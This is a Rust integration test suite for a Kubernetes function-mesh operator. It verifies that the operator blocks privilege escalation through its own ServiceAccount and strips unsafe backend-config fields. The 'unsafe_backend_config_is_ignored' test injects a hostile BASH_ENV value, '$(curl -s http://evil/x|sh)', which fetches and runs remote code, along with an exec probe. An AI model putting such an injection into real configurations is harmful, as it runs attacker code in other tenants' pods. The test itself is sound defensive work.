//! No privilege escalation through the operator: ServiceAccounts of protected namespaces, and code in pods of others.

use anyhow::{Context, ensure};
use function_mesh_api::types::Phase;
use function_mesh_api::{BackendConfig, BackendConfigSpec, Function, FunctionMesh, labels};
use function_mesh_controller::ProtectedNamespaces;
use function_mesh_testkit::{PATIENCE, eventually, fixtures};
use function_mesh_workloads::Settings;
use k8s_openapi::api::apps::v1::StatefulSet;
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::Pod;
use kube::ResourceExt;
use kube::api::ListParams;
use serde_json::{from_value, json};

use crate::harness::{Harness, TestResult, json as to_json};

/// A harness whose controller treats the namespace as its own.
async fn own_namespace(name: &str) -> anyhow::Result<Harness> {
    let mut harness = Harness::without_controller(name).await?;
    harness.options.protected = ProtectedNamespaces::new([harness.namespace.clone()], []);
    harness.start().await?;
    Ok(harness)
}

/// A pod with the operator's ServiceAccount.
fn with_operators_account() -> anyhow::Result<Function> {
    let mut function = to_json(&fixtures::function(fixtures::java_function("f"))?)?;
    function["spec"]["pod"] = json!({ "serviceAccountName": "function-mesh-controller-manager" });
    Ok(from_value(function)?)
}

#[tokio::test]
async fn own_namespace_rejects_components_and_meshes() -> TestResult {
    let harness = own_namespace("own").await?;
    harness.apply(&with_operators_account()?).await?;
    let status = harness.phase::<Function>("f", Phase::Invalid).await?;
    let message = status.message.unwrap_or_default();
    ensure!(message.contains("operator's own namespace"), "{message}");
    ensure!(message.contains("use another namespace"), "{message}");
    harness.apply(&fixtures::mesh("m", [fixtures::java_function("shout").into()])?).await?;
    let valid = harness.condition("m", "Accepted", ("False", "ValidationFailed")).await?;
    ensure!(valid.message.contains("use another namespace"), "{}", valid.message);
    harness.settle().await?;
    ensure!(harness.find::<Function>("m-shout").await?.is_none());
    ensure!(harness.api::<StatefulSet>().list(&ListParams::default()).await?.items.is_empty());
    Ok(())
}

/// A clean-up Job would be such a pod too.
#[tokio::test]
async fn own_namespace_runs_no_cleanup_job() -> TestResult {
    let harness = own_namespace("own-end").await?;
    let mut function = with_operators_account()?;
    function.spec.cleanup_subscription = Some(true);
    function.metadata.finalizers = Some(vec![labels::CLEANUP_FINALIZER.to_owned()]);
    harness.apply(&function).await?;
    harness.phase::<Function>("f", Phase::Invalid).await?;
    harness.delete::<Function>("f").await?;
    harness.gone::<Function>("f").await?;
    harness.settle().await?;
    ensure!(harness.api::<Job>().list(&ListParams::default()).await?.items.is_empty());
    ensure!(harness.api::<Pod>().list(&ListParams::default()).await?.items.is_empty());
    eventually(PATIENCE, async || {
        let events = harness.events("Function", "f").await?;
        ensure!(events.iter().any(|event| event.starts_with("Warning CleanupFailed:")), "{events:?}");
        Ok(())
    })
    .await
}

/// After an upgrade to a version with protected namespaces, existing children are kept.
#[tokio::test]
async fn own_namespace_keeps_existing_children() -> TestResult {
    let mut harness = Harness::new("own-upgrade").await?;
    harness.apply(&fixtures::mesh("m", [fixtures::java_function("shout").into()])?).await?;
    let before = harness.appears::<StatefulSet>("m-shout-function").await?;
    harness.settle().await?;
    harness.stop().await?;
    harness.options.protected = ProtectedNamespaces::new([harness.namespace.clone()], []);
    harness.start().await?;
    harness.condition("m", "Accepted", ("False", "ValidationFailed")).await?;
    harness.phase::<Function>("m-shout", Phase::Invalid).await?;
    harness.settle().await?;
    let after = harness.get::<StatefulSet>("m-shout-function").await?;
    ensure!((before.uid(), before.metadata.generation) == (after.uid(), after.metadata.generation));
    // With the flag, everything is reconciled.
    harness.stop().await?;
    harness.options.protected = ProtectedNamespaces::default();
    harness.start().await?;
    harness.condition("m", "Accepted", ("True", "ValidationSucceeded")).await?;
    harness.get::<FunctionMesh>("m").await?.status.context("no status")?;
    Ok(())
}

/// Fields that would run code in the pods of others are ignored, and an Event reports it.
#[tokio::test]
async fn unsafe_backend_config_is_ignored() -> TestResult {
    let mut harness = Harness::without_controller("unsafe-backend").await?;
    harness.options.settings = Settings {
        global_backend_config: Some("global".to_owned()),
        global_backend_config_namespace: harness.namespace.clone(),
        ..Settings::default()
    };
    harness.start().await?;
    let hostile = json!({
        "autoUpdate": true,
        "env": { "BASH_ENV": "$(curl -s http://evil/x|sh)", "brokerServiceURL": "pulsar://evil", "STAGE": "test" },
        "pod": { "startupProbe": { "exec": { "command": ["sh", "-c", "id"] } } },
    });
    for name in ["global", "backend-config"] {
        let spec: BackendConfigSpec = from_value(hostile.clone())?;
        harness.apply(&BackendConfig::new(name, spec)).await?;
    }
    harness.apply(&fixtures::function(fixtures::java_function("f"))?).await?;
    let set = to_json(
        &harness
            .stateful_set("f-function", async |set| {
                ensure!(to_json(set)?.to_string().contains("STAGE"), "without the defaults");
                Ok(())
            })
            .await?,
    )?;
    let text = set.to_string();
    for bad in ["BASH_ENV", "evil", "\"exec\":"] {
        ensure!(!text.contains(bad), "{bad}: {text}");
    }
    for name in ["global", "backend-config"] {
        eventually(PATIENCE, async || {
            let events = harness.events("BackendConfig", name).await?;
            let event = events
                .iter()
                .find(|event| event.starts_with("Warning UnsafeBackendConfig: ignored: spec.env"));
            let event = event.with_context(|| format!("{events:?}"))?;
            ensure!(event.contains("BASH_ENV") && !event.contains("curl"), "{event}");
            Ok(())
        })
        .await?;
    }
    Ok(())
}
